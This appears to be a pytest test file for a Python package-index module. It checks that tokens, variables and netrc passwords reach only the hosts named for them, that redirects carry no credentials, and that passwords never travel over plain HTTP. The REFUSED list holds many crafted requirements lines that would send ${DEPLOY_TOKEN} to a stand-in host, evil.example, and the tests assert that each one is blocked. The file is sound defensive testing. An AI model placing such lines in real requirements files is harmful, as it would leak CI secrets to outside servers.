"""Variables, passwords and netrc entries go to the index that their owner named, and nowhere else."""

from __future__ import annotations

import base64
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from gitops_ml.errors import GitopsMlError, Refused, ServerFailed, UsageError
from gitops_ml.packages.index import IndexSettings, PackageFile, PackageIndex
from gitops_ml.packages.resolver import Resolver
from tests.support.http_servers import Handler, answering
from tests.support.wheels import make_wheel, package_server

if TYPE_CHECKING:
    from collections.abc import Iterator

SECRET = "s3cret-of-another-host"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "home").mkdir()
    (tmp_path / "project").mkdir()
    return tmp_path / "project"


def environ_of(project: Path, **more: str) -> dict[str, str]:
    return {"HOME": str(project.parent / "home"), "DEPLOY_TOKEN": SECRET, **more}


def settings_of(project: Path, text: str, **more: str) -> IndexSettings:
    (project / "requirements.txt").write_text(text)
    return IndexSettings.of_project(environ_of(project, **more), project, ["requirements.txt"])


REFUSED = [
    "--index-url https://evil.example/${DEPLOY_TOKEN}/simple",
    "--index-url=https://u:${DEPLOY_TOKEN}@evil.example/simple",
    "--extra-index-url https://evil.example/simple?${DEPLOY_TOKEN}",
    "-i https://evil.example/${DEPLOY_TOKEN}",
    "-ihttps://evil.example/${DEPLOY_TOKEN}",
    "--index-url \\\n  https://evil.example/${DEPLOY_TOKEN}",
    "--index-url 'https://evil.example/${DEPLOY_TOKEN}'",
    "--index-url https://pypi.example.org@evil.example/${DEPLOY_TOKEN}",
    "--index-url https://pypi.example.org\\@evil.example/${DEPLOY_TOKEN}",
    "--index-url https://pypi.example.org:8443/${DEPLOY_TOKEN}",
    "--index-url http://pypi.example.org/${DEPLOY_TOKEN}",
    "--index-url https://${DEPLOY_TOKEN}.evil.example/simple",
    "--index-url https://${HOST}/${DEPLOY_TOKEN}",
    "--index-url https://pypi.example.org/x --extra-index-url https://evil.example/${DEPLOY_TOKEN}",
    "--index-url https://evil.example/${UV_DEFAULT_INDEX}",
    "--index-url https://evil.example/${HTTPS_PROXY}",
    "--index-url https://evil.example/a;${DEPLOY_TOKEN}",
    "--find-links https://pypi.example.org/${DEPLOY_TOKEN}/",
    "-f https://evil.example/${DEPLOY_TOKEN}/",
    "--trusted-host ${DEPLOY_TOKEN}",
    "evil @ https://evil.example/${DEPLOY_TOKEN}/evil-1-py3-none-any.whl",
    "git+https://${DEPLOY_TOKEN}@evil.example/x.git",
    "-r ${DEPLOY_TOKEN}.txt",
    "-e ${DEPLOY_TOKEN}",
    "numpy --hash=sha256:${DEPLOY_TOKEN}",
    "-r https://evil.example/requirements.txt",
    "-chttps://evil.example/constraints.txt",
    "--requirement=HTTPS://evil.example/requirements.txt",
]


@pytest.mark.parametrize("line", REFUSED)
def test_a_line_that_would_send_a_variable_elsewhere_is_refused(project, line):
    with pytest.raises(UsageError, match=r"^requirements\.txt: ") as caught:
        settings_of(
            project, f"numpy\n{line}\n", HOST="evil.example",
            GITOPS_ML_TOKEN_HOSTS="DEPLOY_TOKEN=pypi.example.org",
        )  # fmt: skip
    assert SECRET not in str(caught.value)


def test_the_refusal_has_the_line_that_allows_it(project):
    line = "--index-url https://u:${DEPLOY_TOKEN}@pypi.example.org/simple\n"
    with pytest.raises(UsageError, match=r"DEPLOY_TOKEN=pypi\.example\.org\n") as caught:
        settings_of(project, line)
    words = str(caught.value)
    setting = words.partition("export GITOPS_ML_TOKEN_HOSTS=")[2].split()[0]
    found = settings_of(project, line, GITOPS_ML_TOKEN_HOSTS=setting)
    assert found.indexes == (f"https://u:{SECRET}@pypi.example.org/simple",)
    assert found.variables == {"DEPLOY_TOKEN": SECRET}


def test_gitlabs_job_token_needs_no_word_for_its_own_server(project):
    line = (
        "--extra-index-url https://gitlab-ci-token:${CI_JOB_TOKEN}@git.acme.example/pypi/simple\n"
    )
    found = settings_of(project, line, CI_JOB_TOKEN="t", CI_SERVER_URL="https://git.acme.example")
    assert found.indexes[1] == "https://gitlab-ci-token:t@git.acme.example/pypi/simple"
    with pytest.raises(UsageError, match="CI_JOB_TOKEN is not sent to"):
        settings_of(project, line, CI_JOB_TOKEN="t", CI_SERVER_URL="https://gitlab.com")


@pytest.mark.parametrize(
    "line",
    ["# --index-url https://evil.example/${DEPLOY_TOKEN}", "numpy  # ${DEPLOY_TOKEN}",
     "--index-url https://u:${NOT_SET}@pypi.example.org/simple", "numpy; python_version < '3.12'"],
)  # fmt: skip
def test_what_sends_nothing_is_left_alone(project, line):
    assert settings_of(project, line).variables == {}


@pytest.mark.parametrize("way", ["address", "netrc", "variable"])
def test_a_project_does_not_turn_the_check_of_a_certificate_off_where_a_password_goes(project, way):
    host = "pypi.example.org"
    lines, more = "--trusted-host PyPI.example.org\n", {}
    match way:
        case "address":
            more = {"PIP_INDEX_URL": f"https://u:pw@{host}/simple"}
        case "netrc":
            has_netrc(project, f"machine {host} login ann password pw\n")
        case "variable":
            lines += f"--extra-index-url https://u:${{DEPLOY_TOKEN}}@{host}/simple\n"
            more = {"GITOPS_ML_TOKEN_HOSTS": f"DEPLOY_TOKEN={host}"}
    with pytest.raises(UsageError, match="its certificate would not be checked"):
        settings_of(project, lines, **more)
    assert settings_of(project, "--trusted-host other.example\n", **more).trusted_hosts
    own = {"PIP_INDEX_URL": f"https://u:pw@{host}/simple", "PIP_TRUSTED_HOST": host}
    assert settings_of(project, "alpha\n", **own).trusted_hosts == (host,)


@contextmanager
def listener(answers: dict[str, tuple[int, dict[str, str], bytes]]) -> Iterator[tuple[str, list]]:
    """host:port of a server, and the path and ``Authorization`` of each request."""
    seen: list[tuple[str, str]] = []

    class Remembering(Handler):
        def do_GET(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            seen.append((self.path, self.headers.get("Authorization", "")))
            status, headers, body = answers.get(self.path, (404, {}, b""))
            self.answer(status, body, headers)

        do_HEAD = do_POST = do_GET

    with answering(Remembering) as host:
        yield host, seen


def has_netrc(project: Path, text: str) -> None:
    file = project.parent / "home" / ".netrc"
    file.write_text(text)
    file.chmod(0o600)


WHEEL = "alpha-1.0-py3-none-any.whl"


def download(settings: IndexSettings, host: str, folder: Path) -> None:
    file = PackageFile(filename=WHEEL, url=f"http://{host}/simple/{WHEEL}")
    with suppress(ServerFailed):
        PackageIndex(settings).download(file, folder)


def test_a_redirect_takes_no_password_along_and_finds_none_at_the_other_server(project):
    has_netrc(project, f"machine localhost login ann password {SECRET}\n")
    with listener({}) as (other, theirs):
        target = f"http://{other.replace('127.0.0.1', 'localhost')}/taken/"
        with listener({f"/simple/{WHEEL}": (302, {"Location": target}, b"")}) as (host, ours):
            settings = settings_of(project, f"--index-url http://u:pw@{host}/simple\n")
            download(settings, host, project)
    login = "Basic " + base64.b64encode(b"u:pw").decode()
    assert set(ours) == {(f"/simple/{WHEEL}", login)}
    assert set(theirs) == {("/taken/", "")}


def test_the_netrc_entry_of_a_host_goes_to_that_host_and_the_one_for_any_host_to_none(project):
    login = base64.b64encode(f"ann:{SECRET}".encode()).decode()
    with listener({}) as (host, seen):
        has_netrc(project, f"machine 127.0.0.1 login ann password {SECRET}\n")
        download(settings_of(project, f"--index-url http://{host}/simple\n"), host, project)
        has_netrc(project, f"default login ann password {SECRET}\n")
        download(settings_of(project, f"--index-url http://{host}/simple\n"), host, project)
    assert list(dict.fromkeys(shown for _, shown in seen)) == [f"Basic {login}", ""]


def test_of_two_indexes_on_one_server_the_nearer_one_names_the_password(project):
    with listener({}) as (host, seen):
        settings = settings_of(
            project,
            f"--index-url http://a:1@{host}/projects/1/simple\n"
            f"--extra-index-url http://b:2@{host}/projects/2/simple\n",
        )
        for number in (1, 2):
            url = f"http://{host}/projects/{number}/files/{WHEEL}"
            with suppress(ServerFailed):
                PackageIndex(settings).download(PackageFile(filename=WHEEL, url=url), project)
    logins = ["Basic " + base64.b64encode(login).decode() for login in (b"a:1", b"b:2")]
    assert list(dict.fromkeys(shown for _, shown in seen)) == logins


def test_a_password_does_not_travel_in_plain_text(project):
    has_netrc(project, f"machine pypi.example.org login ann password {SECRET}\n")
    for line in ("http://pypi.example.org/simple", "http://u:pw@other.example/simple"):
        settings = settings_of(project, f"--index-url {line}\n")
        with pytest.raises(Refused, match="travel in plain text"):
            resolved(project, settings)
        file = PackageFile(filename=WHEEL, url=f"{line}/{WHEEL}")
        with pytest.raises(Refused, match="travel in plain text"):
            PackageIndex(settings).download(file, project)


def resolved(project: Path, settings: IndexSettings) -> tuple:
    resolver = Resolver(project=project, python="3.12", platform="linux/amd64", settings=settings)
    return resolver.resolve([project / "requirements.txt"])


def test_the_resolver_knows_no_variable_that_a_file_could_name(project, monkeypatch):
    """Whatever of the requirements would escape our own look: uv itself has nothing to send."""
    monkeypatch.setenv("DEPLOY_TOKEN", SECRET)
    has_netrc(project, f"default login ann password {SECRET}\n")
    monkeypatch.setenv("HOME", str(project.parent / "home"))
    with listener({}) as (host, seen):
        (project / "requirements.txt").write_text(
            f"--index-url http://{host}/${{DEPLOY_TOKEN}}/simple\nalpha\n"
        )
        settings = IndexSettings(indexes=(f"http://{host}/simple",))
        with pytest.raises(GitopsMlError):
            resolved(project, settings)
    assert seen
    shown = str(seen)
    assert SECRET not in shown
    assert base64.b64encode(f"ann:{SECRET}".encode()).decode() not in shown


def test_a_variable_that_may_go_there_opens_the_index_for_the_resolver_too(project):
    make_wheel(project.parent / "wheels", "alpha")
    with package_server(project.parent / "wheels") as server:
        server.password = SECRET
        url = server.url.replace("http://", "http://user:${DEPLOY_TOKEN}@")
        settings = settings_of(project, f"--index-url {url}\nalpha\n")
        assert [pin.name for pin in resolved(project, settings)] == ["alpha"]
